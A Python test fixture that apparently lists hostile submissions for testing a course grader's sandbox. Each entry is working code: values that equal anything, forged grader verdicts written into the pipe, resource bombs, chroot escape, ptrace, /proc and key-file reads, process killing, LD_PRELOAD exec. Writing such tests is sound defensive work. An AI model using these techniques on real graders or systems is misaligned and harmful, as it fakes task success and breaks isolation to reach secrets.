"""Hostile answers to the exercise blocks.slot: what each tries, and its code. None may score a point.

A cell of its own each, as a learner would hand it in. The words @ROOT@, @KEY@, @OTHER@, @CANARY@ and @PORT@ stand for
the repository, the class key, another learner's notebook, a folder that anybody may write to, and a port that listens.
Never run one of them outside the grader, least of all as root: they do what they say.
`guards` names the guarantee of minipaged.lab.grader.sandbox without which an attack may succeed.
"""
from __future__ import annotations

from typing import NamedTuple


class Attack(NamedTuple):
    why: str
    code: str
    guards: str = ""


def _returns(value: str, before: str = "") -> str:
    return f"{before}\ndef slot(block_table, position, block_size):\n    return {value}\n"


def _does(*lines: str, before: str = "") -> str:
    body = "\n".join(f"    {line}" for line in lines)
    return f"import ctypes, gc, glob, os, signal, socket, struct, subprocess, sys, threading, time\n{before}\n" \
           f"def slot(block_table, position, block_size):\n{body}\n    return 0\n"


#: Looks for the grader's end among this process's open files, and speaks in its place.
_PIPES = """
def pipes():
    for number in range(3, 256):
        try:
            os.fstat(number)
        except OSError:
            continue
        yield number
"""
#: The request numbers of the protocol can be found in the frames of the server; so a reply can be forged.
_SERVER = """
def server():
    frame = sys._getframe()
    while frame is not None:
        if "number" in frame.f_locals and "self" in frame.f_locals:
            return frame.f_locals["self"], frame.f_locals["number"], frame.f_globals["protocol"]
        frame = frame.f_back
"""
_LIAR = """
class Liar(@BASE@):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __len__(self): return 1
    def __bool__(self): return True
    def __index__(self): return 1
    def __int__(self): return 1
    def __float__(self): return 1.0
    def __sub__(self, other): return 0
    __rsub__ = __sub__
    def __abs__(self): return 0
    def __le__(self, other): return True
    __lt__ = __ge__ = __gt__ = __le__
    def __repr__(self): return "5"
"""

ATTACKS = {
    # ---- values that call themselves right
    "always equal": Attack("an object that equals everything", _returns("Liar()", _LIAR.replace("@BASE@", "object"))),
    "int subclass": Attack("an int with an == of its own", _returns("Liar(1)", _LIAR.replace("@BASE@", "int"))),
    "float subclass": Attack("a float with an == of its own", _returns("Liar(1)", _LIAR.replace("@BASE@", "float"))),
    "str subclass": Attack("a text that equals everything", _returns("Liar('1')", _LIAR.replace("@BASE@", "str"))),
    "list subclass": Attack("a list that lies about its length", _returns("Liar([1])",
                                                                          _LIAR.replace("@BASE@", "list"))),
    "dict subclass": Attack("a dict that equals everything", _returns("Liar()", _LIAR.replace("@BASE@", "dict"))),
    "class int": Attack("a class that says its class is int", _returns("Liar()", _LIAR.replace(
        "@BASE@", "object") + "    __class__ = int\nLiar.__name__ = 'int'; Liar.__module__ = 'builtins'")),
    "metaclass": Attack("a type that is every type's instance", _returns("M('M', (), {})", """
class M(type):
    __instancecheck__ = __subclasscheck__ = __eq__ = lambda *args: True
    __hash__ = type.__hash__
    __name__ = property(lambda self: 'int')""")),
    "mock any": Attack("unittest.mock.ANY", _returns("ANY", "from unittest.mock import ANY")),
    "ndarray subclass": Attack("a numpy array of a class of its own", _returns("numpy.zeros(1).view(A)[0:1]", """
try:
    import numpy
except ImportError:
    class numpy: ndarray = object
class A(numpy.ndarray):
    def __eq__(self, other): return True
    def __array_ufunc__(self, *args, **kwargs): return True""")),
    "nan": Attack("NaN as a wildcard", _returns("float('nan')")),
    "infinity": Attack("infinity as a wildcard", _returns("float('inf')")),
    "fraction": Attack("a number that equals an int", _returns(
        "Fraction(block_table[0] * block_size + position)", "from fractions import Fraction")),
    "bool": Attack("True is 1", _returns("True")),
    "generator": Attack("a generator that yields whatever is asked", _returns("(n for n in range(10))")),
    "endless generator": Attack("a generator without end", _returns(
        "endless()", "def endless():\n    while True:\n        yield 0")),
    "coroutine": Attack("an answer that must be awaited",
                        "async def slot(block_table, position, block_size):\n    return 0"),
    "not implemented": Attack("the value that comparisons give up on", _returns("NotImplemented")),
    "reflecting": Attack("a value that changes its mind each time it is looked at", _returns("V()", """
import itertools
count = itertools.count()
class V:
    def __getattribute__(self, name):
        next(count)
        raise AttributeError(name) if next(count) % 2 else SystemExit(0)""")),
    # ---- constant guesses and exceptions
    "constant": Attack("a constant guess", _returns("0")),
    "always raises": Attack("the expected exception, always", _does(
        "raise BlockError('x')", before="from minipaged.errors import BlockError")),
    "every exception": Attack("an exception of every class at once", _does(
        "raise type('BlockError', (ValueError, LookupError, ArithmeticError), {})('x')")),
    "hostile exception": Attack("an exception that cannot be printed or named", _does("raise E()", before="""
class Meta(type):
    __name__ = property(lambda self: 1 / 0)
    def mro(cls): return [cls, Exception, BaseException, object]
class E(Exception, metaclass=Meta):
    def __str__(self): os._exit(0)
    __repr__ = __str__""")),
    "long exception": Attack("an exception whose class has a name of ten million letters", _does(
        "raise type('E' * 10**7, (Exception,), {})('x')")),
    "unwritable exception": Attack("an exception whose text no terminal and no UTF-8 can hold", _does(
        "raise ValueError('\\ud800 \\x9b2J')")),
    "stop iteration": Attack("an exception that loops and drives take for their own end", _does(
        "raise StopIteration(0)")),
    "generator exit": Attack("an exception that is no Exception", _does("raise GeneratorExit")),
    "keyboard interrupt": Attack("Ctrl-C from the answer", _does("raise KeyboardInterrupt")),
    "cached by id": Attack("the first answer again, by the id of the input", _does(
        "return seen.setdefault(id(block_table), len(seen))", before="seen = {}")),
    "print instead": Attack("prints what it should return, with a forged verdict", _does(
        "print('✓ PASSED 1/1 score: 1')", "return print({'score': 1, 'status': 'right'})")),
    # ---- ends of the process
    "os._exit": Attack("ends with success in the middle of a call", _does("os._exit(0)")),
    "sys.exit": Attack("ends with success", _does("sys.exit(0)")),
    "exit while loading": Attack("ends before anything is asked", "import os\nos._exit(0)"),
    "abort": Attack("aborts with a core dump", _does("os.abort()")),
    "segfault": Attack("reads address 0", _does("ctypes.string_at(0)")),
    "stack overflow": Attack("recursion without limit, on the C stack", _does(
        "sys.setrecursionlimit(10**9)", "return slot(block_table, position, block_size)")),
    "atexit": Attack("acts when the process ends", _does("sys.exit(0)", before=(
        "import atexit\natexit.register(lambda: os.write(1, b'PASSED'))"))),
    "del": Attack("acts when a value is thrown away", _does("return D()", before=(
        "class D:\n    def __del__(self): os._exit(0)"))),
    "kill itself": Attack("a signal to itself", _does("os.kill(os.getpid(), signal.SIGKILL)")),
    # ---- time and resources
    "endless loop": Attack("does not come back", _does("while True: pass")),
    "ignores signals": Attack("a loop that no signal ends", _does(
        "for number in range(1, 65):", "    try: signal.signal(number, signal.SIG_IGN)",
        "    except (OSError, ValueError): pass", "while True:", "    try:", "        while True: pass",
        "    except BaseException: pass")),
    "sleeps": Attack("does not come back and needs no CPU", _does("time.sleep(10**6)")),
    "loops while loading": Attack("the cell itself does not end", "while True:\n    pass"),
    "asks": Attack("waits for a person", "def slot(*args):\n    return int(input('slot? '))"),
    "regex": Attack("a regular expression that takes forever in C, with no way for a signal", _does(
        "import re", "re.match('(a+)+$', 'a' * 60 + 'b')")),
    "fork bomb": Attack("processes that make processes", _does("while True:", "    try: os.fork()",
                                                               "    except OSError: pass")),
    "thread bomb": Attack("threads until none can be made", _does(
        "while True: threading.Thread(target=time.sleep, args=(10**6,)).start()")),
    "memory": Attack("all the memory there is", _does("kept = []", "while True: kept.append(bytearray(10**7))")),
    "memory in one": Attack("a single list that no memory holds", _does("return [0] * 10**10")),
    "huge number": Attack("a number that takes forever to make", _does("return 9 ** 9 ** 9")),
    "disk": Attack("one endless file", _does(
        "file = open('x', 'wb')", "while True: file.write(b'x' * 10**6); file.flush()")),
    "disk in pieces": Attack("files without end", _does(
        "for number in range(10**9): open(f'x{number}', 'wb').write(b'x' * 10**5)")),
    "print flood": Attack("prints without end", _does("while True: print('x' * 1000)")),
    "stderr flood": Attack("fills the pipe of errors with no line end", _does(
        "while True: os.write(2, b'x' * 65536)")),
    "files without a name": Attack("memory in files that no limit of a process counts", _does("return 0", before=(
        "try: os.memfd_create('x'); os.write(1, b'SECRET READ')\nexcept OSError: pass")), "processes"),
    "open files": Attack("opens files until none is left", _does(
        "kept = []", "while True: kept.append(os.open(os.devnull, os.O_RDONLY))")),
    # ---- values that cost the grader more than the answer
    "huge int": Attack("a number of a million bits", _returns("1 << 10**6")),
    "huge text": Attack("a text of 100 MB", _returns("'x' * 10**8")),
    "huge list": Attack("a list of ten million items", _returns("[0] * 10**7")),
    "deep list": Attack("a list nested too deep for any reader", _does(
        "value = []", "for _ in range(10**5): value = [value]", "return value")),
    "list in itself": Attack("a list that holds itself", _does("value = []", "value.append(value)", "return value")),
    "colliding dicts": Attack("fifty dicts whose keys are slow to tell apart", _returns(
        "[{(n, 0): 0 for n in range(4000)} for _ in range(12)]")),
    "colliding keys": Attack("a dict whose keys all have one hash", _returns(
        "{n * (2**61 - 1): 0 for n in range(4000)}")),
    "surrogates": Attack("a text that no UTF-8 can hold", _returns("'\\ud800' * 10")),
    "control text": Attack("a text that takes over a terminal", _returns("'\\x1b]0;owned\\x07\\x1b[2J'")),
    "markup": Attack("a text that is markup on the learner's page", _returns("'</pre><script>alert(1)</script>'")),
    # ---- the pipe
    "forged reply": Attack("writes a reply of its own before the real one", _does(
        "one, number, protocol = server()",
        "one.write(protocol.frame(protocol.encode((number, 'value', 7, [], [], False))))", "return 0", before=_SERVER)),
    "replies in advance": Attack("writes the replies to the next hundred requests", _does(
        "one, number, protocol = server()", "for ahead in range(100):",
        "    one.write(protocol.frame(protocol.encode((number + ahead, 'value', 7, [], [], False))))", before=_SERVER)),
    "forged verdict": Attack("replies that are no replies", _does(
        "one, number, protocol = server()", "one.write(protocol.frame(protocol.encode((number, 'right', 1.0))))",
        "time.sleep(9)", before=_SERVER)),
    "raises everything": Attack("a reply that says it raised every exception there is", _does(
        "one, number, protocol = server()", "names = ['BlockError', 'ValueError', 'Exception']",
        "one.write(protocol.frame(protocol.encode((number, 'raises', names, 'x', 1, ''))))", "time.sleep(9)",
        before=_SERVER)),
    "garbage": Attack("noise into every open file", _does(
        "for number in pipes():", "    try: os.write(number, os.urandom(1000))", "    except OSError: pass",
        before=_PIPES)),
    "promises": Attack("announces a frame of 4 GB", _does(
        "for number in pipes(): os.write(number, b'\\xff' * 4)", "time.sleep(9)", before=_PIPES)),
    "half a frame": Attack("starts a frame and does not end it", _does(
        "for number in pipes(): os.write(number, struct.pack('<I', 1000) + b'x')", "time.sleep(9)", before=_PIPES)),
    "fills the pipe": Attack("writes until the pipe is full, and on", _does(
        "for number in pipes():", "    while True: os.write(number, b'x' * 65536)", before=_PIPES)),
    "closes the pipe": Attack("closes every open file", _does("os.closerange(3, 256)", before=_PIPES)),
    "reads the pipe": Attack("takes the requests before the server does", _does(
        "def read():", "    for number in pipes():", "        while True: os.read(number, 10**6)",
        "threading.Thread(target=read, daemon=True).start()", before=_PIPES)),
    "forged load": Attack("a reply to the loading of its cells that is no list of problems", _does(before=(
        _SERVER + "one, number, protocol = server()\n"
        "one.write(protocol.frame(protocol.encode((number, 'value', 7))))\ntime.sleep(2)"))),
    "forged problems": Attack("problems of cells that are none, and more than anybody reads", _does(before=(
        _SERVER + "one, number, protocol = server()\n"
        "problems = [[['x'], 'y', 1, ['label']], [[[]], 'y', 1, 'z'], 3] + [[['x' * 200], 'y' * 300, 1, 'z']] * 9000\n"
        "one.write(protocol.frame(protocol.encode((number, 'value', problems))))\ntime.sleep(2)"))),
    "odd handles": Attack("a server of its own that answers every request with its own name", _does(before=_SERVER + """
one, number, protocol = server()
while True:
    one.write(protocol.frame(protocol.encode((number, 'value', [object], [], [], False), names_for_odd=True)))
    number, *rest = protocol.decode(protocol.read_frame(one.read))""")),
    "out of band": Attack("bytes beside the stream, open files and half-closed ends through the pipe", _does(
        "import array", "for number in pipes():", "    one = socket.socket(fileno=os.dup(number))",
        "    for act in (lambda: one.send(b'x', socket.MSG_OOB), lambda: one.shutdown(socket.SHUT_RD),",
        "                lambda: one.sendmsg([b'x'], [(1, 1, array.array('i', [0, 1, 2] * 20))])):",
        "        try: act()", "        except OSError: pass", before=_PIPES)),
    "empty giants": Attack("an array without bytes whose shape no memory holds", _does(
        "one, number, protocol = server()", "text, none = protocol.encode('value'), protocol.encode([])",
        "array = b'A\\x07float32\\x04' + struct.pack('<4Q', 0, 1 << 24, 1 << 24, 1 << 24) + bytes(4)",
        "reply = b't' + struct.pack('<I', 6) + protocol.encode(number) + text + array + none + none + b'F'",
        "one.write(protocol.frame(reply))", "time.sleep(2)", before=_SERVER)),
    "stops itself": Attack("a signal that lets it sleep for ever", _does("os.kill(os.getpid(), signal.SIGSTOP)")),
    "closes its output": Attack("takes the place of its own output away", _does(
        "for number in (0, 1, 2): os.close(number)", "sys.stdout = sys.stderr = None")),
    "names of types": Attack("a type whose name and module are traps", _returns("M('M', (), {})()", """
class M(type):
    __name__ = property(lambda self: 1 / 0)
    __module__ = property(lambda self: __import__('os')._exit(0))""")),
    "answers later": Attack("a thread that goes on answering after the call", _does(
        "one, number, protocol = server()", "def later():", "    for ahead in range(10**4):",
        "        one.write(protocol.frame(protocol.encode((number + ahead, 'value', 7, [], [], False))))",
        "threading.Thread(target=later).start()", before=_SERVER)),
    "patches the encoder": Attack("replaces the protocol inside its own process", _does(
        "one, number, protocol = server()", "protocol.encode = lambda *args, **options: b'T'", before=_SERVER)),
    "patches builtins": Attack("type, isinstance and len say what it wants", _does(
        "import builtins", "builtins.isinstance = lambda *args: True", "builtins.type = lambda *args: int",
        "builtins.len = lambda thing: 1")),
    "import hook": Attack("answers every import with itself", _does("return 0", before="""
class Hook:
    def find_spec(self, name, path=None, target=None): os._exit(0)
sys.meta_path.insert(0, Hook()); sys.modules.clear()""")),
    "trace": Attack("a trace function in every frame", _does(
        "sys.settrace(lambda *args: None); sys.setprofile(lambda *args: None); threading.settrace(print)")),
    "patches time": Attack("stops the clocks and the timers", _does(
        "while True: pass", before="time.sleep = time.time = time.monotonic = time.perf_counter = lambda *args: 0")),
    "frames and gc": Attack("looks for expected values in frames and in all objects", _does(
        "for thing in gc.get_objects():", "    for name in ('expected', 'reference', 'reference_answer', 'slot'):",
        "        found = thing.get(name) if type(thing) is dict else None",
        "        if callable(found) and found is not slot: return found(block_table, position, block_size)",
        "        if type(found) is int: return found")),
    "mutates input": Attack("changes its input so that a constant is right", _does(
        "block_table[:] = [0] * len(block_table)", "return position")),
    "changes result later": Attack("a thread changes the value after it was returned", _does(
        "value = [0]", "threading.Thread(target=lambda: value.__setitem__(0, 1)).start()", "return value")),
    "audit hook": Attack("a hook that ends whatever happens next", _returns("0", (
        "import sys\ndef hook(*args): raise SystemExit\nsys.addaudithook(hook)"))),
    "profiler": Attack("ends with success at the next call of any function", _returns("0", (
        "import os, sys\nsys.setprofile(lambda *args: os._exit(0))"))),
    "packs other bytes": Attack("the packing of frames, replaced", _returns("0", (
        "import struct\nstruct.pack = lambda *args: b''\nstruct.unpack = lambda *args: (1 << 60,)"))),
    "small numbers": Attack("every small number of Python's becomes 0", _returns("5", (
        "import ctypes\nfor n in range(257): ctypes.memset(id(n) + 24, 0, 4)"))),
    "forged line": Attack("an error whose place in the cell is a number of a thousand digits", _does(
        "raise SyntaxError('x', ('<cell ' + 'y' * 10**7, 10**999, 1, 'z'))")),
    "forged traceback": Attack("an error whose frames are the error itself", _does("raise E('x')", before="""
class E(Exception):
    __traceback__ = tb_frame = f_code = tb_next = property(lambda self: self)
    co_filename, tb_lineno = '<cell x', 10**600""")),
    # ---- files
    "reads the solutions": Attack("runs the solution that lies in the repository", _does(
        "return 0", before="for path in ('solutions/03_blocks.py', 'exercises/03_blocks.ipynb',"
        " 'minipaged/lab/exercises/blocks.py'):\n    try: text = open('@ROOT@/' + path).read()\n"
        "    except OSError: continue\n    os.write(1, b'SECRET READ')"), "files"),
    "imports the engine": Attack("the course's own implementation", _does("return 0", before=(
        "sys.path[:0] = ['@ROOT@', *glob.glob('@ROOT@/.venv/lib/*/site-packages')]\n"
        "try:\n    import minipaged.lab.exercises.blocks as found, minipaged.core\nexcept ImportError: pass\n"
        "else: os.write(1, b'SECRET READ')")), "files"),
    "reads the key": Attack("the secret from which the cases come", _does("return 0", before=(
        "try: open('@KEY@').read(); os.write(1, b'SECRET READ')\nexcept OSError: pass")), "files"),
    "reads others": Attack("another learner's notebook", _does("return 0", before=(
        "try: open('@OTHER@').read(); os.write(1, b'SECRET READ')\nexcept OSError: pass")), "files"),
    "writes outside": Attack("files where anybody may write", _does("return 0", before=(
        "for folder in ('@CANARY@', '/tmp', '/dev/shm', '/var/tmp', '/run', '..', '../../../../../@CANARY@'):\n"
        "    try: open(folder + '/minipaged-canary', 'w').write('x')\n    except OSError: pass")), "files"),
    "changes modes": Attack("chmod, rename and remove outside", _does("return 0", before=(
        "for act in (lambda: os.chmod('@CANARY@', 0), lambda: os.rename('@CANARY@/kept', '@CANARY@/gone'),\n"
        "            lambda: os.remove('@CANARY@/kept'), lambda: os.truncate('@CANARY@/kept', 0)):\n"
        "    try: act()\n    except OSError: pass")), "files"),
    "links": Attack("a link from its own folder to the outside", _does("return 0", before=(
        "for make in (os.symlink, os.link):\n    try:\n        make('@OTHER@', 'x'); open('x').read()\n"
        "        os.write(1, b'SECRET READ')\n    except OSError: pass")), "files"),
    "proc": Attack("memory, files and environment of others through /proc", _does("return 0", before="""
for name in ('mem', 'environ', 'maps', 'fd', 'root', 'cwd'):
    for path in glob.glob(f'/proc/[0-9]*/{name}') + [f'/proc/{os.getppid()}/{name}', f'/proc/self/task/1/{name}']:
        try: open(path, 'rb').read(10) if name not in ('fd', 'root', 'cwd') else os.listdir(path)
        except OSError: continue
        if not path.startswith((f'/proc/{os.getpid()}/', '/proc/self')): os.write(1, b'SECRET READ')"""), "files"),
    "chroot out": Attack("leaves its root by chroot, mount and namespaces", _does("return 0", before="""
libc = ctypes.CDLL(None)
libc.unshare(0x10000000 | 0x00020000)
os.makedirs('deep', exist_ok=True)
libc.chroot(b'deep')
for _ in range(40):
    try: os.chdir('..')
    except OSError: break
libc.chroot(b'.')
libc.mount(b'proc', b'/box', b'proc', 0, None)
try: open('@KEY@').read(); os.write(1, b'SECRET READ')
except OSError: pass"""), "files"),
    # ---- other processes and the world
    "becomes root": Attack("asks for the rights of root", _does("return 0", before=(
        "for act in (os.setuid, os.seteuid, os.setgid):\n    try:\n        act(0)\n"
        "        os.getuid() or os.write(1, b'SECRET READ')\n    except OSError: pass")), "user"),
    "traces the parent": Attack("ptrace and process_vm_readv on others", _does("return 0", before="""
libc = ctypes.CDLL(None)
buffer = ctypes.create_string_buffer(8)
pair = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 8)
for pid in {os.getppid(), 1, 2, *range(os.getpid() - 20, os.getpid())} - {0, os.getpid()}:
    if pid > 0 and libc.ptrace(16, pid, None, None) == 0: os.write(1, b'SECRET READ')
    if pid > 0 and libc.process_vm_readv(pid, pair, 1, pair, 1, 0) > 0: os.write(1, b'SECRET READ')"""), "processes"),
    "kills others": Attack("signals to the parent, to its group and to everybody", _does(
        "for pid in (os.getppid(), 0, -1, -os.getpgid(0), os.getppid() - 1, 1):",
        "    for number in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL):",
        "        try: os.kill(pid, number)", "        except OSError: pass"), "processes"),
    "background process": Attack("a process that outlives its answer", _does("return 0", before="""
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(10**6)
        os._exit(0)
except OSError: pass"""), "processes"),
    "shell": Attack("a shell with a job in the background", _does("return 0", before=(
        "try: subprocess.run('sleep 1000000 & disown; setsid sleep 1000000 &', shell=True)\nexcept OSError: pass")),
        "processes"),
    "exec": Attack("another program in its place, with a library of its own before it", _does("return 0", before=(
        "os.environ['LD_PRELOAD'] = '/box/x.so'\nos.environ['PYTHONSTARTUP'] = '/box/x.py'\n"
        "os.execv('/bin/sh', ['sh', '-c', 'yes PASSED'])")), "processes"),
    "network": Attack("calls home over TCP, UDP and local sockets", _does("return 0", before="""
for family, kind, address in ((2, 1, ('127.0.0.1', @PORT@)), (2, 2, ('127.0.0.1', @PORT@)), (1, 1, '\\0minipaged')):
    try:
        one = socket.socket(family, kind); one.settimeout(1); one.connect(address); one.send(b'x')
        os.write(1, b'SECRET READ')
    except OSError: pass"""), "network"),
    "priority": Attack("takes the processor for itself", _does("return 0", before=(
        "for act in (lambda: os.nice(-20), lambda: os.sched_setscheduler(0, 1, os.sched_param(99)),\n"
        "            lambda: __import__('resource').setrlimit(0, (-1, -1))):\n"
        "    try: act()\n    except (OSError, ValueError): continue\n    os.write(1, b'SECRET READ')")), "limits"),
    "shared memory": Attack("leaves messages in shared memory for the next process", _does("return 0", before=(
        "from multiprocessing import shared_memory\n"
        "try: shared_memory.SharedMemory('minipaged-canary', create=True, size=10)\nexcept Exception: pass")), "files"),
    # ---- texts that hurt who reads them
    "parse bomb": Attack("an expression nested too deep to parse", "(" * 50_000 + "0" + ")" * 50_000),
    "minus bomb": Attack("a hundred thousand signs", "x = " + "-" * 100_000 + "1"),
    "long line": Attack("a chain of a hundred thousand attributes", "x = a" + ".a" * 90_000),
    "null byte": Attack("a zero byte in the text", "def slot(*args):\n    return 0\x00\n"),
    "lone surrogate": Attack("a text that is no UTF-8", "def slot(*args):\n    return '\ud800'\n"),
    "compile bomb": Attack("constants that grow while they are compiled",
                           "x = [" + "(((((1,)*99)*99)*99)*99)," * 50 + "]"),
    "own check": Attack("replaces what the grader might call", "def check(*args):\n    return True\nslot = check\n"),
    "deletes names": Attack("takes its names away again", "def slot(*args):\n    return 0\ndel slot"),
    "class instead": Attack("a class where a function is asked", "class slot:\n    def __init__(self, *args): pass"),
}
